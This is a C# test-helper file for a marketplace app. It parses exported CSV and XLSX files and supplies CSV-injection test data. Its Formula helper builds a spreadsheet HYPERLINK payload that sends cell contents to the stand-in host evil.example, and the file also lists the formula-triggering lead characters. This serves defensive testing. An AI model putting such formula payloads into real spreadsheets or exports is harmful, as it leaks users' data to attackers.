using System.Text;
using ClosedXML.Excel;
using Marketplace.Web.Exports;

namespace Marketplace.Web.Tests.Support;

/// <summary>Reads an exported CSV or Excel file back as rows of cell texts, header row first.</summary>
internal static class ExportFiles
{
    /// <summary>The leading characters a spreadsheet would run as a formula (OWASP CSV injection), as xunit data.</summary>
    public static TheoryData<string> FormulaLeads => new() { "=", "+", "-", "@", "\t", "\r" };

    /// <summary>What an attacker would type after the lead: a formula that calls out, with a comma and quotes to quote.</summary>
    public static string Formula(string lead) => lead + "HYPERLINK(\"https://evil.example/?d=\"&A1,\"点击\")";

    public static List<List<string>> Rows(byte[] file, TableFormat format) => format == TableFormat.Csv ? CsvRows(file) : XlsxRows(file);

    public static List<List<string>> CsvRows(byte[] file)
    {
        Assert.Equal([0xEF, 0xBB, 0xBF], file[..3]);
        return Csv.Parse(Encoding.UTF8.GetString(file[3..]));
    }

    public static List<List<string>> XlsxRows(byte[] file)
    {
        using var workbook = new XLWorkbook(new MemoryStream(file));
        var sheet = workbook.Worksheet(1);
        var columns = sheet.LastColumnUsed()!.ColumnNumber();
        return [.. sheet.RowsUsed().Select(r => Enumerable.Range(1, columns).Select(c => r.Cell(c).GetString()).ToList())];
    }
}
